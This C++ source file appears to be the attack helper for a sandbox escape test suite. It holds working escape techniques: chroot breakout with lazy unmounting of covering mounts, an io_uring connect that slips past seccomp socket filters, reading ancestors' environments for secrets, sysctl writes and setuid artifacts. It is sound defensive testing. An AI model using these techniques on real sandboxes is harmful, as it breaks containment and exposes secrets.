// The attacks of the escape suite (tests/e2e/escape_*_e2e_test.cc), one subcommand each, done
// with raw system calls from inside a target's command. Each prints one outcome line:
//   ESCAPED <attack> <subject> [detail]   the attack worked
//   BLOCKED <attack> <subject> errno=E    the sandbox (or the kernel) refused it
//   ERROR <attack> <subject> ...          the attack could not be tried (a test bug)
// and exits 0, so the target succeeds and the tests read the outcome from the log. The tests
// decide from the host's state, never from this line alone.
//
// Nothing here may damage the machine it runs on: the sysctl attack writes back the value it
// just read, the kill attack is aimed at a process the test started, and every socket is the
// test's own. Built static, so it runs in any sandbox view of the file system.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

std::string ErrnoName(int e) {
  const char* name = strerrorname_np(e);
  return name ? name : std::to_string(e);
}

void Say(const char* verdict, const std::string& attack, const std::string& subject,
         const std::string& detail = "") {
  std::printf("%s %s %s%s%s\n", verdict, attack.c_str(), subject.c_str(), detail.empty() ? "" : " ",
              detail.c_str());
  std::fflush(stdout);
}
void Blocked(const std::string& attack, const std::string& subject, int e,
             const std::string& op = "") {
  Say("BLOCKED", attack, subject, "errno=" + ErrnoName(e) + (op.empty() ? "" : " op=" + op));
}

bool ReadAll(const std::string& path, std::string* out, int* err) {
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    *err = errno;
    return false;
  }
  char buf[4096];
  out->clear();
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) {
      *err = errno;
      close(fd);
      return false;
    }
    if (n == 0) break;
    out->append(buf, static_cast<size_t>(n));
  }
  close(fd);
  return true;
}

// The value of "Key:\t..." in /proc/self/status, or "?".
std::string StatusField(const std::string& status, const std::string& key) {
  size_t at = status.find("\n" + key + ":");
  if (at == std::string::npos) return "?";
  at += key.size() + 2;
  while (at < status.size() && (status[at] == '\t' || status[at] == ' ')) ++at;
  return status.substr(at, status.find('\n', at) - at);
}

// identity OUT_FILE: which host uid runs the command, with what privileges. It creates OUT_FILE
// (in $FANOUT_OUT), whose owner on the host is the uid the host sees, whatever the maps say.
int Identity(const std::string& out_file) {
  std::string status, map;
  int err = 0;
  if (!ReadAll("/proc/self/status", &status, &err)) {
    Say("ERROR", "identity", "/proc/self/status", "errno=" + ErrnoName(err));
    return 0;
  }
  long host_uid = -1;
  const long uid = static_cast<long>(geteuid());
  if (ReadAll("/proc/self/uid_map", &map, &err)) {
    long in = 0, outside = 0, count = 0;
    const char* p = map.c_str();
    int used = 0;
    while (std::sscanf(p, "%ld %ld %ld%n", &in, &outside, &count, &used) == 3) {
      if (uid >= in && uid < in + count) host_uid = outside + (uid - in);
      p += used;
    }
  }
  int fd = open(out_file.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0) close(fd);
  // Uid: real, effective, saved, fs. CapBnd etc. are hex masks.
  const std::string detail =
      "uid=" + std::to_string(uid) + " host-uid=" + std::to_string(host_uid) + " Uid=[" +
      StatusField(status, "Uid") + "] CapEff=" + StatusField(status, "CapEff") +
      " CapPrm=" + StatusField(status, "CapPrm") + " CapBnd=" + StatusField(status, "CapBnd") +
      " NoNewPrivs=" + StatusField(status, "NoNewPrivs");
  Say(host_uid == 0 ? "ESCAPED" : "BLOCKED", "identity", "host-root", detail);
  return 0;
}

// sysctl PATH: opens a sysctl for writing and writes back exactly the value it read, so the
// machine is never changed; a successful write is the escape.
int Sysctl(const std::string& path) {
  std::string value;
  int err = 0;
  if (!ReadAll(path, &value, &err)) {
    Blocked("sysctl", path, err, "read");
    return 0;
  }
  if (value.empty()) {
    Say("ERROR", "sysctl", path, "empty value; nothing written");
    return 0;
  }
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    Blocked("sysctl", path, errno, "open");
    return 0;
  }
  ssize_t n = write(fd, value.data(), value.size());
  const int e = errno;
  close(fd);
  if (n < 0) {
    Blocked("sysctl", path, e, "write");
  } else {
    Say("ESCAPED", "sysctl", path, "wrote back " + std::to_string(n) + " bytes");
  }
  return 0;
}

int Kill(const std::string& pid_text) {
  const pid_t pid = static_cast<pid_t>(std::atol(pid_text.c_str()));
  if (pid <= 1) {
    Say("ERROR", "kill", pid_text, "refusing to signal this pid");
    return 0;
  }
  if (kill(pid, SIGKILL) == 0) {
    Say("ESCAPED", "kill", pid_text);
  } else {
    Blocked("kill", pid_text, errno);
  }
  return 0;
}

// Connects to a Unix socket (abstract when `abstract`) and sends one byte.
int UnixConnect(const std::string& name, bool abstract) {
  const std::string attack = abstract ? "abstract-connect" : "unix-connect";
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (name.size() + 2 > sizeof addr.sun_path) {
    Say("ERROR", attack, name, "name too long");
    return 0;
  }
  std::memcpy(addr.sun_path + (abstract ? 1 : 0), name.data(), name.size());
  const socklen_t len =
      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size() + (abstract ? 1 : 0));
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    Blocked(attack, name, errno, "socket");
    return 0;
  }
  if (connect(s, reinterpret_cast<sockaddr*>(&addr), len) != 0) {
    Blocked(attack, name, errno, "connect");
  } else {
    (void)!write(s, "x", 1);
    Say("ESCAPED", attack, name);
  }
  close(s);
  return 0;
}

// A minimal io_uring: one submission at a time, waited for.
class Ring {
 public:
  bool Setup(int* err) {
    io_uring_params p{};
    fd_ = static_cast<int>(syscall(__NR_io_uring_setup, 4, &p));
    if (fd_ < 0) {
      *err = errno;
      return false;
    }
    sq_size_ = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    cq_size_ = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP) sq_size_ = cq_size_ = std::max(sq_size_, cq_size_);
    sq_ = mmap(nullptr, sq_size_, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_,
               IORING_OFF_SQ_RING);
    cq_ = (p.features & IORING_FEAT_SINGLE_MMAP)
              ? sq_
              : mmap(nullptr, cq_size_, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_,
                     IORING_OFF_CQ_RING);
    sqes_ = static_cast<io_uring_sqe*>(mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe),
                                            PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_,
                                            IORING_OFF_SQES));
    if (sq_ == MAP_FAILED || cq_ == MAP_FAILED || sqes_ == MAP_FAILED) {
      *err = errno;
      return false;
    }
    auto* sq = static_cast<char*>(sq_);
    sq_tail_ = reinterpret_cast<unsigned*>(sq + p.sq_off.tail);
    sq_mask_ = *reinterpret_cast<unsigned*>(sq + p.sq_off.ring_mask);
    sq_array_ = reinterpret_cast<unsigned*>(sq + p.sq_off.array);
    auto* cq = static_cast<char*>(cq_);
    cq_head_ = reinterpret_cast<unsigned*>(cq + p.cq_off.head);
    cq_tail_ = reinterpret_cast<unsigned*>(cq + p.cq_off.tail);
    cq_mask_ = *reinterpret_cast<unsigned*>(cq + p.cq_off.ring_mask);
    cqes_ = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes);
    return true;
  }

  // Submits `sqe` and waits for its completion; returns the completion's res (-errno on error),
  // or sets *err when io_uring_enter itself fails.
  bool Do(const io_uring_sqe& sqe, int* res, int* err) {
    const unsigned tail = __atomic_load_n(sq_tail_, __ATOMIC_ACQUIRE);
    const unsigned index = tail & sq_mask_;
    sqes_[index] = sqe;
    sq_array_[index] = index;
    __atomic_store_n(sq_tail_, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, fd_, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) {
      *err = errno;
      return false;
    }
    const unsigned head = __atomic_load_n(cq_head_, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(cq_tail_, __ATOMIC_ACQUIRE)) {
      *err = EAGAIN;
      return false;
    }
    *res = cqes_[head & cq_mask_].res;
    __atomic_store_n(cq_head_, head + 1, __ATOMIC_RELEASE);
    return true;
  }

 private:
  int fd_ = -1;
  size_t sq_size_ = 0, cq_size_ = 0;
  void *sq_ = nullptr, *cq_ = nullptr;
  io_uring_sqe* sqes_ = nullptr;
  unsigned *sq_tail_ = nullptr, *sq_array_ = nullptr, *cq_head_ = nullptr, *cq_tail_ = nullptr;
  unsigned sq_mask_ = 0, cq_mask_ = 0;
  io_uring_cqe* cqes_ = nullptr;
};

// uring-connect PORT: a TCP connection to 127.0.0.1:PORT made entirely through io_uring
// (IORING_OP_SOCKET, IORING_OP_CONNECT), which a seccomp filter on socket() never sees.
int UringConnect(const std::string& port) {
  const std::string subject = "127.0.0.1:" + port;
  Ring ring;
  int err = 0;
  if (!ring.Setup(&err)) {
    Blocked("uring-connect", subject, err, "io_uring_setup");
    return 0;
  }
  io_uring_sqe sqe{};
  sqe.opcode = IORING_OP_SOCKET;
  sqe.fd = AF_INET;
  sqe.off = SOCK_STREAM;
  sqe.len = 0;  // protocol
  int res = 0;
  if (!ring.Do(sqe, &res, &err)) {
    Blocked("uring-connect", subject, err, "io_uring_enter");
    return 0;
  }
  if (res < 0) {
    Blocked("uring-connect", subject, -res, "IORING_OP_SOCKET");
    return 0;
  }
  const int s = res;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(std::atoi(port.c_str())));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  sqe = io_uring_sqe{};
  sqe.opcode = IORING_OP_CONNECT;
  sqe.fd = s;
  sqe.addr = reinterpret_cast<uint64_t>(&addr);
  sqe.off = sizeof addr;
  if (!ring.Do(sqe, &res, &err)) {
    Blocked("uring-connect", subject, err, "io_uring_enter");
  } else if (res < 0) {
    Blocked("uring-connect", subject, -res, "IORING_OP_CONNECT");
  } else {
    Say("ESCAPED", "uring-connect", subject);
  }
  close(s);
  return 0;
}

// environ NAME: looks for NAME= in the initial environment of every ancestor.
int Environ(const std::string& name) {
  std::string findings;
  bool found = false;
  pid_t pid = getppid();
  for (int depth = 0; depth < 64 && pid > 1; ++depth) {
    std::string stat, env;
    int err = 0;
    if (!ReadAll("/proc/" + std::to_string(pid) + "/stat", &stat, &err)) break;
    const size_t open_paren = stat.find('('), close_paren = stat.rfind(')');
    if (open_paren == std::string::npos || close_paren == std::string::npos) break;
    const std::string comm = stat.substr(open_paren + 1, close_paren - open_paren - 1);
    char state = 0;
    long ppid = 0;
    if (std::sscanf(stat.c_str() + close_paren + 1, " %c %ld", &state, &ppid) != 2) break;
    std::string what;
    if (!ReadAll("/proc/" + std::to_string(pid) + "/environ", &env, &err)) {
      what = ErrnoName(err);
    } else if (env.find(std::string("\0", 1) + name + "=") != std::string::npos ||
               env.compare(0, name.size() + 1, name + "=") == 0) {
      what = "SECRET";
      found = true;
    } else {
      what = "readable-no-secret";
    }
    // Not " " + std::to_string(pid) + ...: GCC 12 at -O3 reports a -Wrestrict false positive
    // on operator+(const char*, std::string&&) (GCC bug 105329).
    findings += ' ';
    findings += std::to_string(pid) + ":" + comm + ":" + what;
    pid = static_cast<pid_t>(ppid);
  }
  Say(found ? "ESCAPED" : "BLOCKED", "environ", name, "ancestors" + findings);
  return 0;
}

int Chmod(const std::string& path) {
  if (chmod(path.c_str(), 0640) == 0) {
    Say("ESCAPED", "chmod", path);
  } else {
    Blocked("chmod", path, errno);
  }
  return 0;
}

int Utime(const std::string& path) {
  const timespec times[2] = {{1000000000, 0}, {1000000000, 0}};
  if (utimensat(AT_FDCWD, path.c_str(), times, 0) == 0) {
    Say("ESCAPED", "utime", path);
  } else {
    Blocked("utime", path, errno);
  }
  return 0;
}

int Setxattr(const std::string& path) {
  if (setxattr(path.c_str(), "user.fanout_escape", "1", 1, 0) == 0) {
    Say("ESCAPED", "setxattr", path);
  } else {
    Blocked("setxattr", path, errno);
  }
  return 0;
}

// fill PATH BYTES: writes BYTES into PATH (then removes it); ESCAPED: no bound stopped it.
int Fill(const std::string& path, const std::string& bytes_text) {
  const long long total = std::atoll(bytes_text.c_str());
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) {
    Blocked("fill", path, errno, "open");
    return 0;
  }
  std::vector<char> chunk(65536, 'x');
  long long written = 0;
  int err = 0;
  while (written < total) {
    const size_t want = static_cast<size_t>(std::min<long long>(chunk.size(), total - written));
    ssize_t n = write(fd, chunk.data(), want);
    if (n <= 0) {
      err = n < 0 ? errno : ENOSPC;
      break;
    }
    written += n;
  }
  close(fd);
  unlink(path.c_str());
  if (written >= total) {
    Say("ESCAPED", "fill", path, "wrote=" + std::to_string(written));
  } else {
    Blocked("fill", path, err, "write wrote=" + std::to_string(written));
  }
  return 0;
}

// mounts PATH...: whether each path's mount lets setuid bits and device nodes work.
int Mounts(const std::vector<std::string>& paths) {
  std::string bad, good;
  for (const std::string& p : paths) {
    struct statvfs st;
    if (statvfs(p.c_str(), &st) != 0) {
      bad += " " + p + ":errno=" + ErrnoName(errno);
      continue;
    }
    std::string flags = (st.f_flag & ST_RDONLY) ? "ro" : "rw";
    flags += (st.f_flag & ST_NOSUID) ? ",nosuid" : ",suid";
    flags += (st.f_flag & ST_NODEV) ? ",nodev" : ",dev";
    const bool ok = (st.f_flag & ST_NOSUID) && (st.f_flag & ST_NODEV);
    (ok ? good : bad) += " " + p + ":" + flags;
  }
  Say(bad.empty() ? "BLOCKED" : "ESCAPED", "mounts", "writable",
      "bad=[" + bad + "] ok=[" + good + "]");
  return 0;
}

// proc-covers: whether /proc's host-global files can be written (their mount is not read-only).
int ProcCovers() {
  std::string open_paths;
  for (const char* p : {"/proc/sys", "/proc/sysrq-trigger", "/proc/irq", "/proc/bus", "/proc/fs"}) {
    struct statvfs st;
    if (statvfs(p, &st) != 0) continue;  // absent is covered
    if (!(st.f_flag & ST_RDONLY)) open_paths += std::string(" ") + p;
  }
  if (open_paths.empty()) {
    Say("BLOCKED", "proc-covers", "/proc", "all read-only or absent");
  } else {
    Say("ESCAPED", "proc-covers", "/proc", "writable:" + open_paths);
  }
  return 0;
}

// setuid-artifact DIR: makes DIR/suid 04755 and DIR/sgid 02755; ESCAPED says the bits held here.
int SetuidArtifact(const std::string& dir) {
  for (const auto& [name, mode] :
       {std::pair<const char*, mode_t>{"suid", 04755}, {"sgid", 02755}}) {
    const std::string path = dir + "/" + name;
    int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0) {
      Blocked("setuid-artifact", path, errno, "open");
      continue;
    }
    (void)!write(fd, "#!/bin/sh\nid\n", 13);
    if (fchmod(fd, mode) != 0) {
      Blocked("setuid-artifact", path, errno, "fchmod");
      close(fd);
      continue;
    }
    struct stat st;
    fstat(fd, &st);
    close(fd);
    char octal[16];
    std::snprintf(octal, sizeof octal, "%04o", st.st_mode & 07777);
    Say((st.st_mode & (S_ISUID | S_ISGID)) ? "ESCAPED" : "BLOCKED", "setuid-artifact", path,
        std::string("mode=") + octal + " uid=" + std::to_string(st.st_uid));
  }
  return 0;
}

// uncover FILE: reads FILE, which the sandbox hides, by unmounting what covers it. First it
// leaves the chroot(2) it may be in (the chroot isolation of an image build's RUN step), the
// classic way: chroot into a new directory while the working directory stays above it, climb,
// and chroot there. Then, while FILE cannot be read, it lazily unmounts the deepest mount point
// above FILE. ESCAPED gives FILE's first line.
int Uncover(const std::string& file) {
  if (mkdir("/.uncover", 0700) == 0 || errno == EEXIST) {
    if (chroot("/.uncover") == 0) {
      for (int i = 0; i < 64; ++i) (void)!chdir("..");
      (void)!chroot(".");
    }
  }
  for (int round = 0; round < 32; ++round) {
    std::string text;
    int err = 0;
    if (ReadAll(file, &text, &err)) {
      Say("ESCAPED", "uncover", file, "first line: " + text.substr(0, text.find('\n')));
      return 0;
    }
    // The deepest mount point that is FILE or one of its ancestors (the fifth field of
    // /proc/self/mountinfo; spaces in it come escaped, and such a point is not ours).
    std::string mountinfo;
    if (!ReadAll("/proc/self/mountinfo", &mountinfo, &err)) {
      Blocked("uncover", file, err, "read /proc/self/mountinfo");
      return 0;
    }
    std::string deepest;
    size_t at = 0;
    while (at < mountinfo.size()) {
      const size_t end = std::min(mountinfo.find('\n', at), mountinfo.size());
      const std::string line = mountinfo.substr(at, end - at);
      at = end + 1;
      size_t field = 0, pos = 0;
      for (int i = 0; i < 4 && pos != std::string::npos; ++i) pos = line.find(' ', pos + 1);
      if (pos == std::string::npos) continue;
      field = pos + 1;
      const std::string point = line.substr(field, line.find(' ', field) - field);
      const bool above = point == "/" || file == point ||
                         (file.compare(0, point.size(), point) == 0 && file[point.size()] == '/');
      if (above && point.size() > deepest.size()) deepest = point;
    }
    if (deepest.empty() || deepest == "/") {
      Blocked("uncover", file, err, "read");
      return 0;
    }
    if (umount2(deepest.c_str(), MNT_DETACH) != 0) {
      Blocked("uncover", deepest, errno, "umount");
      return 0;
    }
  }
  Say("ERROR", "uncover", file, "still covered after 32 unmounts");
  return 0;
}

int Usage() {
  std::fprintf(stderr,
               "usage: escape_attack identity OUT_FILE | sysctl PATH | kill PID |\n"
               "  abstract-connect NAME | unix-connect PATH | uring-connect PORT |\n"
               "  environ NAME | chmod PATH | utime PATH | setxattr PATH |\n"
               "  fill PATH BYTES | mounts PATH... | proc-covers | setuid-artifact DIR |\n"
               "  uncover FILE\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return Usage();
  const std::string cmd = argv[1];
  const std::vector<std::string> args(argv + 2, argv + argc);
  const auto need = [&](size_t n) { return args.size() == n; };
  if (cmd == "identity" && need(1)) return Identity(args[0]);
  if (cmd == "sysctl" && need(1)) return Sysctl(args[0]);
  if (cmd == "kill" && need(1)) return Kill(args[0]);
  if (cmd == "abstract-connect" && need(1)) return UnixConnect(args[0], true);
  if (cmd == "unix-connect" && need(1)) return UnixConnect(args[0], false);
  if (cmd == "uring-connect" && need(1)) return UringConnect(args[0]);
  if (cmd == "environ" && need(1)) return Environ(args[0]);
  if (cmd == "chmod" && need(1)) return Chmod(args[0]);
  if (cmd == "utime" && need(1)) return Utime(args[0]);
  if (cmd == "setxattr" && need(1)) return Setxattr(args[0]);
  if (cmd == "fill" && need(2)) return Fill(args[0], args[1]);
  if (cmd == "mounts" && !args.empty()) return Mounts(args);
  if (cmd == "proc-covers" && need(0)) return ProcCovers();
  if (cmd == "setuid-artifact" && need(1)) return SetuidArtifact(args[0]);
  if (cmd == "uncover" && need(1)) return Uncover(args[0]);
  return Usage();
}
